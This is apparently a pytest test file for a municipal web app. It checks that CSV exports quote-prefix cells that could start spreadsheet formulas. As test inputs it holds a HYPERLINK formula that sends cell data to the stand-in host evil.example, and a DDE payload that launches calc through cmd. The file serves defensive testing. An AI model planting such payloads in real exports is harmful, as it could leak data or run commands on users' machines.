"""CSV exports: no cell of any export can start a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest

from rathaus.core.exports import SafeDictWriter, csv_cell

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1;"Klick")'


@pytest.mark.parametrize("value", ["=1+1", "+49 170 123", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_could_start_a_formula_gets_a_leading_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Erika Mustermann", "", " =1", "a=b", "'=1", 12, -3.5, None, True])
def test_other_text_and_numbers_stay_as_they_are(value):
    assert csv_cell(value) == value


def test_the_writer_neutralises_rows_written_one_by_one_and_in_bulk():
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["name", "count"])
    writer.writeheader()
    writer.writerow({"name": "=1+1", "count": -1})
    writer.writerows([{"name": "@x", "count": 2}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "count"], ["'=1+1", "-1"], ["'@x", "2"]]


@pytest.mark.django_db
def test_inbox_export_writes_a_formula_name_as_text(staff_client, town, demo_services, dog_data):
    from rathaus.applications.models import Application
    from rathaus.applications.services import application_submit

    application = application_submit(municipality=town, service=demo_services["hund-anmelden"], data=dog_data).application
    Application.objects.filter(pk=application.pk).update(applicant_name=EVIL_NAME)

    response = staff_client.get(f"/m/{town.slug}/verwaltung/posteingang/?export=csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["applicant_name"] for row in rows] == ["'" + EVIL_NAME]
    # The JSON export is data, not a spreadsheet: it keeps the value exactly.
    json_rows = staff_client.get(f"/m/{town.slug}/verwaltung/posteingang/?export=json").json()
    assert [row["applicant_name"] for row in json_rows] == [EVIL_NAME]


@pytest.mark.django_db
def test_task_inbox_export_writes_a_formula_task_name_as_text(staff_client, town, demo_services, dog_data):
    import base64

    from rathaus.applications.services import application_submit
    from rathaus.processes.demo import attach_demo_processes
    from rathaus.processes.models import UserTask
    from rathaus.processes.services import process_start

    attach_demo_processes(town, demo_services)
    pdf = base64.b64encode(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF").decode()
    dog_data["reduction"] = {"exemption": "blindenfuehrhund",
                             "proof": {"filename": "a.pdf", "content_type": "application/pdf", "content": pdf}}
    application = application_submit(municipality=town, service=demo_services["hund-anmelden"], data=dog_data).application
    process_start(application=application)
    UserTask.objects.filter(application=application).update(name="-1+cmd|' /C calc'!A0")

    response = staff_client.get(f"/m/{town.slug}/verwaltung/aufgaben/team/?export=csv")

    assert response.status_code == 200, response.content[:300]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["name"] for row in rows] == ["'-1+cmd|' /C calc'!A0"]


def test_exchange_exports_neutralise_cells():
    from rathaus.exchanges.exports import csv_response

    response = csv_response([{"child_first_name": "+Max", "notes": "ok"}], ["child_first_name", "notes"], "x.csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [{"child_first_name": "'+Max", "notes": "ok"}]
